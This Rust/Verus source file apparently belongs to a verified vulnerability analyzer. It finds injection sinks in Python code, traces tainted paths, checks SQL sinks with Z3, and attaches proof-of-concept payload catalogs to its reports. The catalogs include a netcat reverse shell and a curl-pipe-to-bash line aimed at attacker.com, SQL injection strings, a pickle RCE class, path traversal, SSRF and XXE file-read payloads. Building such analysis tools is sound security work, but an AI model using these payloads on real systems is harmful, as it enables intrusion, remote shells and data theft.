//! The orchestrator: sinks, taint and paths put together into a verdict,
//! with the catalog of sample payloads.

use crate::constraint_gen::{path_codes, smt_script, ConstraintGenerator};
use crate::model::{
    path_views, sink_views, AnalysisResult, AnalysisResultView, ExploitStatus, PathNode,
    PathNodeView, Sink, SinkType, SinkView,
};
use crate::python_parser::{
    is_language_failure, lemma_sink_lines_from_one, parse_failure, sinks_in, sinks_of,
    PythonParser,
};
use crate::slicer::{
    definitions_in, lemma_definition_lines_positive, lemma_path_lines_positive, lines_positive,
    rows_positive, seeds_of, trace_of, BackwardSlicer, DefinitionView,
};
use crate::solver::{answer_view, SolverAnswer, Z3Solver};
use crate::syntax::{
    lemma_whole_lines_from_one, lines_from_one, syntax_tree, SyntaxNode, SyntaxView,
};
use crate::text::{
    decimal, decimal_text, join2, lemma_views_add, lemma_views_push, names, trim, trimmed,
};
use vstd::prelude::*;
use vstd::string::StringExecFns;
use vstd::string::StringSliceAdditionalSpecFns;
use vstd::utf8::encode_utf8;

verus! {

/// The payload catalog for SQL injection: what stands before the target.
pub const SQL_HEAD: &'static str = "SQL Injection Payloads:\n─────────────────────────────────────────\nTarget: ";

/// The catalog for SQL injection, from the target to the encoded probe.
pub const SQL_BODY: &'static str = ")\n\nAuthentication Bypass:\n  ' OR '1'='1' --\n\nData Exfiltration:\n  ' UNION SELECT username, password FROM users --\n\nBlind SQL Injection (Time-based):\n  1' AND (SELECT * FROM (SELECT(SLEEP(5)))a) --\n\nExample HTTP Request:\n  GET /api/user?id=";

/// The catalog for SQL injection, behind the encoded probe.
pub const SQL_TAIL: &'static str = " HTTP/1.1\n  Host: target.com\n";

/// The payload catalog for command injection: what stands before the target.
pub const COMMAND_HEAD: &'static str = "Command Injection Payloads:\n─────────────────────────────────────────\nTarget: ";

/// The catalog for command injection, behind the target.
pub const COMMAND_BODY: &'static str = ")\n\nBasic Command Execution:\n  ; id\n\nReverse Shell:\n  | nc attacker.com 4444 -e /bin/sh\n\nOut-of-Band Data Exfiltration:\n  $(curl http://attacker.com/shell.sh | bash)\n\nExample Input:\n  127.0.0.1; id\n";

/// The payload catalog for code injection: what stands before the target.
pub const CODE_HEAD: &'static str = "Code Injection Payloads:\n─────────────────────────────────────────\nTarget: ";

/// The catalog for code injection, behind the target.
pub const CODE_BODY: &'static str = ")\n\nBasic Code Execution:\n  __import__('os').system('id')\n\nFile Read:\n  __import__('subprocess').check_output(['cat', '/etc/passwd'])\n\nObfuscated Payload:\n  exec(__import__('base64').b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))\n";

/// The payload catalog for path traversal: what stands before the target.
pub const PATH_HEAD: &'static str = "Path Traversal Payloads:\n─────────────────────────────────────────\nTarget: ";

/// The catalog for path traversal, behind the target.
pub const PATH_BODY: &'static str = ")\n\nLinux:\n  ../../../etc/passwd\n  ....//....//....//etc/passwd\n\nWindows:\n  ..\\..\\..\\windows\\system32\\config\\sam\n  ..%2f..%2f..%2fetc/passwd\n\nNull Byte (legacy):\n  ../../../etc/passwd%00.png\n";

/// The payload catalog for deserialisation: what stands before the target.
pub const PICKLE_HEAD: &'static str = "Insecure Deserialization Payloads:\n─────────────────────────────────────────\nTarget: ";

/// The catalog for deserialisation, behind the target.
pub const PICKLE_BODY: &'static str = ")\n\nPython Pickle RCE:\n  import pickle\n  import base64\n  import os\n\n  class Exploit:\n      def __reduce__(self):\n          return (os.system, ('id',))\n\n  payload = base64.b64encode(pickle.dumps(Exploit())).decode()\n  print(payload)\n\nGenerated Base64 Payload:\n  gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==\n\nSend this as the serialized data to trigger code execution.\n";

/// The payload catalog for request forgery: what stands before the target.
pub const SSRF_HEAD: &'static str = "SSRF Payloads:\n─────────────────────────────────────────\nTarget: ";

/// The catalog for request forgery, behind the target.
pub const SSRF_BODY: &'static str = ")\n\nCloud Metadata:\n  http://169.254.169.254/latest/meta-data/\n\nInternal Scan:\n  http://localhost:8080/admin\n  http://127.0.0.1:22\n";

/// The payload catalog for XML entities: what stands before the target.
pub const XXE_HEAD: &'static str = "XXE Payloads:\n─────────────────────────────────────────\nTarget: ";

/// The catalog for XML entities, behind the target.
pub const XXE_BODY: &'static str = ")\n\nFile Read:\n  <!DOCTYPE foo [ <!ENTITY xxe SYSTEM \"file:///etc/passwd\"> ]>\n  <root>&xxe;</root>\n\nSSRF via XXE:\n  <!DOCTYPE foo [ <!ENTITY xxe SYSTEM \"http://internal.service/endpoint\"> ]>\n";

/// The probe whose encoded form the catalog for SQL injection shows.
pub const SQL_PROBE: &'static str = "' OR '1'='1' --";

/// What is reported where the source holds no sink.
pub const NO_SINKS: &'static str = "No dangerous function calls (sinks) detected in this code.";

/// What is reported where sinks were found and none is reached.
pub const NOT_REACHED: &'static str =
    "SAFE: Dangerous functions detected but no exploitable path from user input found. The code appears to be properly sanitized or uses safe patterns.";

/// A byte that a URL holds as it is: a letter, a digit, or one of `-`, `.`,
/// `_`, `~`.
pub open spec fn is_unreserved(b: u8) -> bool {
    (0x30 <= b <= 0x39) || (0x41 <= b <= 0x5a) || (0x61 <= b <= 0x7a) || b == 0x2d || b == 0x2e || b
        == 0x5f || b == 0x7e
}

/// The hexadecimal digit for `d`, with capitals for ten to fifteen.
pub open spec fn hex_digit(d: u8) -> char {
    if d < 10 {
        (0x30 + d) as char
    } else {
        (0x37 + d) as char
    }
}

/// One byte, percent-encoded.
pub open spec fn encoded_byte(b: u8) -> Seq<char> {
    if is_unreserved(b) {
        seq![b as char]
    } else {
        seq!['%', hex_digit(b / 16), hex_digit(b % 16)]
    }
}

/// `bytes`, percent-encoded byte by byte.
pub open spec fn percent_encoded(bytes: Seq<u8>) -> Seq<char>
    decreases bytes.len(),
{
    if bytes.len() == 0 {
        Seq::empty()
    } else {
        percent_encoded(bytes.drop_last()) + encoded_byte(bytes.last())
    }
}

/// `urlencoding::encode`: every byte of the text is kept where it is a
/// letter, a digit or one of `-`, `.`, `_`, `~`, and is written as `%` and
/// two hexadecimal digits otherwise.
#[verifier::external_body]
pub(crate) fn percent_encode(text: &str) -> (r: String)
    ensures
        r@ == percent_encoded(text.spec_bytes()),
{
    urlencoding::encode(text).into_owned()
}

/// The target of a payload: the snippet and its line.
pub open spec fn target_text(snippet: Seq<char>, line: usize) -> Seq<char> {
    snippet + " (line "@ + decimal(line as nat)
}

/// The sample payloads for `sink`: the catalog of its kind, with the sink
/// as the target.
pub open spec fn payload_text(sink: SinkView) -> Seq<char> {
    match sink.sink_type {
        SinkType::SqlInjection => SQL_HEAD@ + target_text(trimmed(sink.code_snippet), sink.line)
            + SQL_BODY@ + percent_encoded(encode_utf8(SQL_PROBE@)) + SQL_TAIL@,
        SinkType::CommandInjection => COMMAND_HEAD@ + target_text(
            trimmed(sink.code_snippet),
            sink.line,
        ) + COMMAND_BODY@,
        SinkType::CodeInjection => CODE_HEAD@ + target_text(trimmed(sink.code_snippet), sink.line)
            + CODE_BODY@,
        SinkType::PathTraversal => PATH_HEAD@ + target_text(trimmed(sink.code_snippet), sink.line)
            + PATH_BODY@,
        SinkType::Deserialization => PICKLE_HEAD@ + target_text(
            trimmed(sink.code_snippet),
            sink.line,
        ) + PICKLE_BODY@,
        SinkType::Ssrf => SSRF_HEAD@ + target_text(sink.code_snippet, sink.line) + SSRF_BODY@,
        SinkType::Xxe => XXE_HEAD@ + target_text(sink.code_snippet, sink.line) + XXE_BODY@,
    }
}

/// What the solver is taken to have said where it was not asked or did not
/// answer.
pub open spec fn no_answer() -> Result<Option<Seq<char>>, Seq<char>> {
    Err("no answer from the solver"@)
}

/// The `k`-th of `answers`, or no answer.
pub open spec fn answer_at(answers: Seq<SolverAnswer>, k: int) -> Result<
    Option<Seq<char>>,
    Seq<char>,
> {
    if 0 <= k < answers.len() {
        answer_view(answers[k])
    } else {
        no_answer()
    }
}

/// What has been found so far: the exploitable sinks, their paths in a row,
/// the last model, and how many answers of the solver were used.
pub struct Tally {
    pub exploitable: Seq<SinkView>,
    pub paths: Seq<PathNodeView>,
    pub model: Option<Seq<char>>,
    pub used: int,
}

/// `tally` with `sink` counted as exploitable by the path `path`.
pub open spec fn counted(tally: Tally, sink: SinkView, path: Seq<PathNodeView>) -> Tally {
    Tally {
        exploitable: tally.exploitable.push(sink),
        paths: tally.paths + path,
        model: tally.model,
        used: tally.used,
    }
}

/// The tally after `sink`: a sink without a path changes nothing; a sink
/// that is no database call counts by its path alone; a database call uses
/// the next answer of the solver, and counts unless the answer is that the
/// script cannot be satisfied. A model in the answer is kept.
pub open spec fn tally_step(
    defs: Seq<DefinitionView>,
    source: Seq<char>,
    answers: Seq<SolverAnswer>,
    tally: Tally,
    sink: SinkView,
) -> Tally {
    match trace_of(defs, seeds_of(defs), sink, source) {
        None => tally,
        Some(path) => if sink.sink_type == SinkType::SqlInjection {
            let asked = Tally {
                exploitable: tally.exploitable,
                paths: tally.paths,
                model: tally.model,
                used: tally.used + 1,
            };
            match answer_at(answers, tally.used) {
                Ok(Some(model)) => counted(
                    Tally {
                        exploitable: tally.exploitable,
                        paths: tally.paths,
                        model: Some(model),
                        used: tally.used + 1,
                    },
                    sink,
                    path,
                ),
                Ok(None) => asked,
                Err(_) => counted(asked, sink, path),
            }
        } else {
            counted(tally, sink, path)
        },
    }
}

/// The tally after the first `n` of `sinks`.
pub open spec fn tally_of(
    defs: Seq<DefinitionView>,
    source: Seq<char>,
    answers: Seq<SolverAnswer>,
    sinks: Seq<SinkView>,
    n: int,
) -> Tally
    decreases n,
{
    if n <= 0 {
        Tally { exploitable: Seq::empty(), paths: Seq::empty(), model: None, used: 0 }
    } else {
        tally_step(defs, source, answers, tally_of(defs, source, answers, sinks, n - 1), sinks[n - 1])
    }
}

/// The script for `sink`, as a sequence of one or none: a database call
/// with a path has one.
pub open spec fn script_for(defs: Seq<DefinitionView>, source: Seq<char>, sink: SinkView) -> Seq<
    Seq<char>,
> {
    match trace_of(defs, seeds_of(defs), sink, source) {
        Some(path) => if sink.sink_type == SinkType::SqlInjection {
            seq![smt_script(path_codes(path), sink.code_snippet)]
        } else {
            Seq::empty()
        },
        None => Seq::empty(),
    }
}

/// The scripts for the first `n` of `sinks`, in order.
pub open spec fn scripts_among(
    defs: Seq<DefinitionView>,
    source: Seq<char>,
    sinks: Seq<SinkView>,
    n: int,
) -> Seq<Seq<char>>
    decreases n,
{
    if n <= 0 {
        Seq::empty()
    } else {
        scripts_among(defs, source, sinks, n - 1) + script_for(defs, source, sinks[n - 1])
    }
}

/// The scripts that the solver is to be asked about for `tree`: one for each
/// database call with a path, in source order.
pub open spec fn scripts_of(tree: SyntaxView, source: Seq<char>) -> Seq<Seq<char>> {
    scripts_among(definitions_in(tree), source, sinks_in(tree), sinks_in(tree).len() as int)
}

/// The explanation of an exploitable verdict.
pub open spec fn exploit_explanation(sink: SinkView, model: Option<Seq<char>>) -> Seq<char> {
    "EXPLOITABLE: "@ + sink.sink_type.description_text() + " detected at line "@ + decimal(
        sink.line as nat,
    )
        + ". User input flows to this sink without proper sanitization.\n\nProof-of-Concept Payload:\n"@
        + payload_text(sink) + match model {
        Some(m) => "\n\nMathematical Proof (Z3 Model):\n--------------------------------\n"@ + m,
        None => Seq::empty(),
    }
}

/// The report for `tree`: no sink gives `NoSinksFound`; a sink that counts
/// gives `Exploitable`, with the sinks that count, the payloads for the first
/// of them and all their paths; else `Safe`, with all sinks.
pub open spec fn report_of(
    tree: SyntaxView,
    source: Seq<char>,
    answers: Seq<SolverAnswer>,
    elapsed_ms: u64,
) -> AnalysisResultView {
    let sinks = sinks_in(tree);
    let tally = tally_of(definitions_in(tree), source, answers, sinks, sinks.len() as int);
    if sinks.len() == 0 {
        AnalysisResultView {
            success: true,
            status: ExploitStatus::NoSinksFound,
            sinks: Seq::empty(),
            payload: None,
            explanation: NO_SINKS@,
            attack_path: Seq::empty(),
            analysis_time_ms: elapsed_ms,
        }
    } else if tally.exploitable.len() > 0 {
        AnalysisResultView {
            success: true,
            status: ExploitStatus::Exploitable,
            sinks: tally.exploitable,
            payload: Some(payload_text(tally.exploitable[0])),
            explanation: exploit_explanation(tally.exploitable[0], tally.model),
            attack_path: tally.paths,
            analysis_time_ms: elapsed_ms,
        }
    } else {
        AnalysisResultView {
            success: true,
            status: ExploitStatus::Safe,
            sinks,
            payload: None,
            explanation: NOT_REACHED@,
            attack_path: Seq::empty(),
            analysis_time_ms: elapsed_ms,
        }
    }
}

/// The report where the source could not be parsed.
pub open spec fn parse_error_report(reason: Seq<char>, elapsed_ms: u64) -> AnalysisResultView {
    AnalysisResultView {
        success: false,
        status: ExploitStatus::Inconclusive,
        sinks: Seq::empty(),
        payload: None,
        explanation: "Parse error: "@ + reason,
        attack_path: Seq::empty(),
        analysis_time_ms: elapsed_ms,
    }
}

/// The report for `source`: that of its syntax tree, or the report of a
/// parse failure where it has none.
pub open spec fn source_report(
    source: Seq<char>,
    answers: Seq<SolverAnswer>,
    elapsed_ms: u64,
) -> AnalysisResultView {
    match syntax_tree(source) {
        Some(tree) => report_of(tree, source, answers, elapsed_ms),
        None => parse_error_report(parse_failure(), elapsed_ms),
    }
}

/// The scripts that the solver is to be asked about for `source`: those of
/// its syntax tree; none where it has none.
pub open spec fn source_scripts(source: Seq<char>) -> Seq<Seq<char>> {
    match syntax_tree(source) {
        Some(tree) => scripts_of(tree, source),
        None => Seq::empty(),
    }
}

/// Whether `line` is within five lines of `target`.
pub open spec fn is_near(line: usize, target: usize) -> bool {
    line - target <= 5 && target - line <= 5
}

/// Those of the first `n` of `sinks` that are within five lines of `target`.
pub open spec fn sinks_near(sinks: Seq<SinkView>, target: usize, n: int) -> Seq<SinkView>
    decreases n,
{
    if n <= 0 {
        Seq::empty()
    } else if is_near(sinks[n - 1].line, target) {
        sinks_near(sinks, target, n - 1).push(sinks[n - 1])
    } else {
        sinks_near(sinks, target, n - 1)
    }
}

/// `report` narrowed to the sinks within five lines of `target`; where none
/// is left, the verdict is `NoSinksFound` and the explanation says so.
pub open spec fn narrowed(report: AnalysisResultView, target: usize) -> AnalysisResultView {
    let near = sinks_near(report.sinks, target, report.sinks.len() as int);
    if near.len() == 0 {
        AnalysisResultView {
            success: report.success,
            status: ExploitStatus::NoSinksFound,
            sinks: near,
            payload: report.payload,
            explanation: "No dangerous function calls found near line "@ + decimal(target as nat)
                + "."@,
            attack_path: report.attack_path,
            analysis_time_ms: report.analysis_time_ms,
        }
    } else {
        AnalysisResultView {
            success: report.success,
            status: report.status,
            sinks: near,
            payload: report.payload,
            explanation: report.explanation,
            attack_path: report.attack_path,
            analysis_time_ms: report.analysis_time_ms,
        }
    }
}

/// The report is a function of the tree, the source, the answers of the
/// solver and the time: two analyses of the same input with the same answers
/// differ in nothing but the time they took.
pub proof fn lemma_report_is_repeatable(
    tree: SyntaxView,
    source: Seq<char>,
    answers: Seq<SolverAnswer>,
    first_ms: u64,
    second_ms: u64,
)
    ensures
        report_of(tree, source, answers, first_ms).status == report_of(
            tree,
            source,
            answers,
            second_ms,
        ).status,
        report_of(tree, source, answers, first_ms).sinks == report_of(
            tree,
            source,
            answers,
            second_ms,
        ).sinks,
        report_of(tree, source, answers, first_ms).attack_path == report_of(
            tree,
            source,
            answers,
            second_ms,
        ).attack_path,
        report_of(tree, source, answers, first_ms).payload == report_of(
            tree,
            source,
            answers,
            second_ms,
        ).payload,
        report_of(tree, source, answers, first_ms).explanation == report_of(
            tree,
            source,
            answers,
            second_ms,
        ).explanation,
{
}

proof fn lemma_tally_rows_positive(
    defs: Seq<DefinitionView>,
    source: Seq<char>,
    answers: Seq<SolverAnswer>,
    sinks: Seq<SinkView>,
    n: int,
)
    requires
        lines_positive(defs),
        forall|i: int| 0 <= i < sinks.len() ==> (#[trigger] sinks[i]).line >= 1,
        n <= sinks.len(),
    ensures
        rows_positive(tally_of(defs, source, answers, sinks, n).paths),
    decreases n,
{
    if n > 0 {
        lemma_tally_rows_positive(defs, source, answers, sinks, n - 1);
        let sink = sinks[n - 1];
        lemma_path_lines_positive(defs, seeds_of(defs), sink, source);
    }
}

/// Every row of the attack path of a report stands on a line that is at
/// least 1, where the lines of the tree are counted from 1.
pub proof fn lemma_attack_path_lines_positive(
    tree: SyntaxView,
    source: Seq<char>,
    answers: Seq<SolverAnswer>,
    elapsed_ms: u64,
)
    requires
        lines_from_one(tree),
    ensures
        rows_positive(report_of(tree, source, answers, elapsed_ms).attack_path),
{
    lemma_sink_lines_from_one(tree);
    lemma_definition_lines_positive(tree);
    lemma_tally_rows_positive(
        definitions_in(tree),
        source,
        answers,
        sinks_in(tree),
        sinks_in(tree).len() as int,
    );
}

/// Two analyses of the same source with the same answers of the solver give
/// the same verdict, the same sinks and the same attack path, whatever time
/// they took.
pub proof fn lemma_analysis_is_repeatable(
    source: Seq<char>,
    answers: Seq<SolverAnswer>,
    first_ms: u64,
    second_ms: u64,
)
    ensures
        source_report(source, answers, first_ms).status == source_report(
            source,
            answers,
            second_ms,
        ).status,
        source_report(source, answers, first_ms).sinks == source_report(
            source,
            answers,
            second_ms,
        ).sinks,
        source_report(source, answers, first_ms).attack_path == source_report(
            source,
            answers,
            second_ms,
        ).attack_path,
{
}

fn target_of(snippet: &str, line: usize) -> (r: String)
    ensures
        r@ == target_text(snippet@, line),
{
    let mut out = join2(snippet, " (line ");
    let number = decimal_text(line);
    out.append(number.as_str());
    out
}

fn catalog(head: &str, snippet: &str, line: usize, body: &str) -> (r: String)
    ensures
        r@ == head@ + target_text(snippet@, line) + body@,
{
    let mut out = head.to_owned();
    let target = target_of(snippet, line);
    out.append(target.as_str());
    out.append(body);
    out
}

/// The sample payloads for `sink`.
pub fn generate_payload(sink: &Sink) -> (r: String)
    ensures
        r@ == payload_text(sink@),
{
    let snippet = sink.code_snippet.as_str();
    match sink.sink_type {
        SinkType::SqlInjection => {
            let mut out = catalog(SQL_HEAD, trim(snippet), sink.line, SQL_BODY);
            let probe = percent_encode(SQL_PROBE);
            out.append(probe.as_str());
            out.append(SQL_TAIL);
            out
        },
        SinkType::CommandInjection => catalog(COMMAND_HEAD, trim(snippet), sink.line, COMMAND_BODY),
        SinkType::CodeInjection => catalog(CODE_HEAD, trim(snippet), sink.line, CODE_BODY),
        SinkType::PathTraversal => catalog(PATH_HEAD, trim(snippet), sink.line, PATH_BODY),
        SinkType::Deserialization => catalog(PICKLE_HEAD, trim(snippet), sink.line, PICKLE_BODY),
        SinkType::Ssrf => catalog(SSRF_HEAD, snippet, sink.line, SSRF_BODY),
        SinkType::Xxe => catalog(XXE_HEAD, snippet, sink.line, XXE_BODY),
    }
}

fn explain(sink: &Sink, payload: &str, model: &Option<String>) -> (r: String)
    requires
        payload@ == payload_text(sink@),
    ensures
        r@ == exploit_explanation(
            sink@,
            match *model {
                Some(m) => Some(m@),
                None => None,
            },
        ),
{
    let mut out = join2("EXPLOITABLE: ", sink.sink_type.description());
    out.append(" detected at line ");
    let number = decimal_text(sink.line);
    out.append(number.as_str());
    out.append(
        ". User input flows to this sink without proper sanitization.\n\nProof-of-Concept Payload:\n",
    );
    out.append(payload);
    match model {
        Some(m) => {
            out.append("\n\nMathematical Proof (Z3 Model):\n--------------------------------\n");
            out.append(m.as_str());
        },
        None => {
        },
    }
    out
}

/// The scripts that the solver is to be asked about for `tree`.
pub fn scripts_for(tree: &SyntaxNode, source: &str) -> (r: Vec<String>)
    ensures
        names(r@) == scripts_of(tree@, source@),
{
    let generator = ConstraintGenerator::new();
    let sinks = sinks_of(tree);
    let mut slicer = BackwardSlicer::new();
    slicer.analyze(source, tree);
    let ghost defs = definitions_in(tree@);
    let mut scripts: Vec<String> = Vec::new();
    let mut n: usize = 0;
    while n < sinks.len()
        invariant
            n <= sinks.len(),
            sink_views(sinks@) == sinks_in(tree@),
            defs == definitions_in(tree@),
            slicer.defs() == defs,
            slicer.seeds() == seeds_of(defs),
            names(scripts@) == scripts_among(defs, source@, sink_views(sinks@), n as int),
        decreases sinks.len() - n,
    {
        let sink = &sinks[n];
        match slicer.trace_to_entry_point(sink, source) {
            Some(path) => {
                if sink.sink_type == SinkType::SqlInjection {
                    let script = generator.generate_smt(
                        path.as_slice(),
                        sink.code_snippet.as_str(),
                    );
                    scripts.push(script);
                }
            },
            None => {
            },
        }
        n += 1;
    }
    scripts
}

/// The report for `tree`, whose text is `source`, given the answers of the
/// solver to the scripts of `scripts_for`, in order, and the time taken.
pub fn report(tree: &SyntaxNode, source: &str, answers: &Vec<SolverAnswer>, elapsed_ms: u64) -> (r:
    AnalysisResult)
    ensures
        r@ == report_of(tree@, source@, answers@, elapsed_ms),
{
    let sinks = sinks_of(tree);
    if sinks.len() == 0 {
        let r = AnalysisResult {
            success: true,
            status: ExploitStatus::NoSinksFound,
            sinks: Vec::new(),
            payload: None,
            explanation: NO_SINKS.to_owned(),
            attack_path: Vec::new(),
            analysis_time_ms: elapsed_ms,
        };
        proof {
            assert(sink_views(r.sinks@) =~= Seq::<SinkView>::empty());
            assert(path_views(r.attack_path@) =~= Seq::<PathNodeView>::empty());
        }
        return r;
    }
    let mut slicer = BackwardSlicer::new();
    slicer.analyze(source, tree);
    let ghost defs = definitions_in(tree@);
    let ghost all = sink_views(sinks@);
    let mut exploitable: Vec<Sink> = Vec::new();
    let mut paths: Vec<PathNode> = Vec::new();
    let mut model: Option<String> = None;
    let mut used: usize = 0;
    let mut n: usize = 0;
    proof {
        assert(sink_views(exploitable@) =~= Seq::<SinkView>::empty());
        assert(path_views(paths@) =~= Seq::<PathNodeView>::empty());
    }
    while n < sinks.len()
        invariant
            n <= sinks.len(),
            used <= n,
            all == sink_views(sinks@),
            all == sinks_in(tree@),
            defs == definitions_in(tree@),
            slicer.defs() == defs,
            slicer.seeds() == seeds_of(defs),
            (Tally {
                exploitable: sink_views(exploitable@),
                paths: path_views(paths@),
                model: match model {
                    Some(m) => Some(m@),
                    None => None,
                },
                used: used as int,
            }) == tally_of(defs, source@, answers@, all, n as int),
        decreases sinks.len() - n,
    {
        let sink = &sinks[n];
        match slicer.trace_to_entry_point(sink, source) {
            Some(path) => {
                let mut counts = true;
                if sink.sink_type == SinkType::SqlInjection {
                    if used < answers.len() {
                        match &answers[used] {
                            Ok(Some(m)) => {
                                model = Some(m.clone());
                            },
                            Ok(None) => {
                                counts = false;
                            },
                            Err(_) => {},
                        }
                    }
                    used += 1;
                }
                if counts {
                    let mut path = path;
                    let copy = sink.copy();
                    proof {
                        lemma_views_push(exploitable@, copy);
                        lemma_views_add(paths@, path@);
                    }
                    exploitable.push(copy);
                    paths.append(&mut path);
                }
            },
            None => {},
        }
        n += 1;
    }
    if exploitable.len() > 0 {
        let payload = generate_payload(&exploitable[0]);
        let explanation = explain(&exploitable[0], payload.as_str(), &model);
        AnalysisResult {
            success: true,
            status: ExploitStatus::Exploitable,
            sinks: exploitable,
            payload: Some(payload),
            explanation,
            attack_path: paths,
            analysis_time_ms: elapsed_ms,
        }
    } else {
        let r = AnalysisResult {
            success: true,
            status: ExploitStatus::Safe,
            sinks,
            payload: None,
            explanation: NOT_REACHED.to_owned(),
            attack_path: Vec::new(),
            analysis_time_ms: elapsed_ms,
        };
        r
    }
}

fn near(line: usize, target: usize) -> (r: bool)
    ensures
        r == is_near(line, target),
{
    if line >= target {
        line - target <= 5
    } else {
        target - line <= 5
    }
}

/// `report` narrowed to the sinks within five lines of `target_line`.
pub fn narrow_to_line(report: AnalysisResult, target_line: usize) -> (r: AnalysisResult)
    ensures
        r@ == narrowed(report@, target_line),
{
    let mut kept: Vec<Sink> = Vec::new();
    let ghost all = sink_views(report.sinks@);
    let mut n: usize = 0;
    while n < report.sinks.len()
        invariant
            n <= report.sinks.len(),
            all == sink_views(report.sinks@),
            sink_views(kept@) == sinks_near(all, target_line, n as int),
        decreases report.sinks.len() - n,
    {
        if near(report.sinks[n].line, target_line) {
            let copy = report.sinks[n].copy();
            kept.push(copy);
        }
        n += 1;
    }
    if kept.len() == 0 {
        let mut explanation = join2(
            "No dangerous function calls found near line ",
            decimal_text(target_line).as_str(),
        );
        explanation.append(".");
        AnalysisResult {
            success: report.success,
            status: ExploitStatus::NoSinksFound,
            sinks: kept,
            payload: report.payload,
            explanation,
            attack_path: report.attack_path,
            analysis_time_ms: report.analysis_time_ms,
        }
    } else {
        AnalysisResult {
            success: report.success,
            status: report.status,
            sinks: kept,
            payload: report.payload,
            explanation: report.explanation,
            attack_path: report.attack_path,
            analysis_time_ms: report.analysis_time_ms,
        }
    }
}

/// The exploit prover: a parser and a reader of solver output.
pub struct ExploitProver {
    parser: PythonParser,
    solver: Z3Solver,
}

impl ExploitProver {
    /// A prover. It fails where no parser for Python can be made, and says
    /// what the parser said.
    pub fn new() -> (r: Result<Self, String>)
        ensures
            r matches Err(e) ==> is_language_failure(e@),
    {
        match PythonParser::new() {
            Ok(parser) => Ok(ExploitProver { parser, solver: Z3Solver::new() }),
            Err(e) => Err(e),
        }
    }

    /// The scripts that the solver is to be asked about before `source` is
    /// analysed: those of its syntax tree; none where it has none.
    pub fn solver_scripts(&mut self, source: &str) -> (r: Vec<String>)
        ensures
            names(r@) == source_scripts(source@),
    {
        match self.parser.parse(source) {
            Ok(tree) => scripts_for(&tree, source),
            Err(_) => {
                let none: Vec<String> = Vec::new();
                assert(names(none@) =~= Seq::<Seq<char>>::empty());
                none
            },
        }
    }

    /// The verdict that the output of a solver run stands for.
    pub fn read_solver_output(&self, ended_well: bool, stdout: &str, stderr: &str) -> (r:
        SolverAnswer)
        ensures
            answer_view(r) == crate::solver::verdict_of(ended_well, stdout@, stderr@),
    {
        self.solver.read_output(ended_well, stdout, stderr)
    }

    /// The report for `source`: that of its syntax tree, with the answers
    /// of the solver to the scripts of `solver_scripts`, in order, and the
    /// time taken. Where an answer is missing, the sink counts as
    /// exploitable. Where the source has no syntax tree, the report is
    /// inconclusive and says why.
    pub fn analyze(&mut self, source: &str, answers: &Vec<SolverAnswer>, elapsed_ms: u64) -> (r:
        AnalysisResult)
        ensures
            r@ == source_report(source@, answers@, elapsed_ms),
            rows_positive(r@.attack_path),
    {
        match self.parser.parse(source) {
            Ok(tree) => {
                let r = report(&tree, source, answers, elapsed_ms);
                proof {
                    lemma_whole_lines_from_one(tree@);
                    lemma_attack_path_lines_positive(tree@, source@, answers@, elapsed_ms);
                }
                r
            },
            Err(e) => {
                let r = AnalysisResult {
                    success: false,
                    status: ExploitStatus::Inconclusive,
                    sinks: Vec::new(),
                    payload: None,
                    explanation: join2("Parse error: ", e.as_str()),
                    attack_path: Vec::new(),
                    analysis_time_ms: elapsed_ms,
                };
                proof {
                    assert(sink_views(r.sinks@) =~= Seq::<SinkView>::empty());
                    assert(path_views(r.attack_path@) =~= Seq::<PathNodeView>::empty());
                }
                r
            },
        }
    }

    /// The report for `source`, narrowed to the sinks within five lines of
    /// `target_line`.
    pub fn analyze_at_line(
        &mut self,
        source: &str,
        target_line: usize,
        answers: &Vec<SolverAnswer>,
        elapsed_ms: u64,
    ) -> (r: AnalysisResult)
        ensures
            r@ == narrowed(source_report(source@, answers@, elapsed_ms), target_line),
            rows_positive(r@.attack_path),
    {
        let full = self.analyze(source, answers, elapsed_ms);
        narrow_to_line(full, target_line)
    }
}

} // verus!
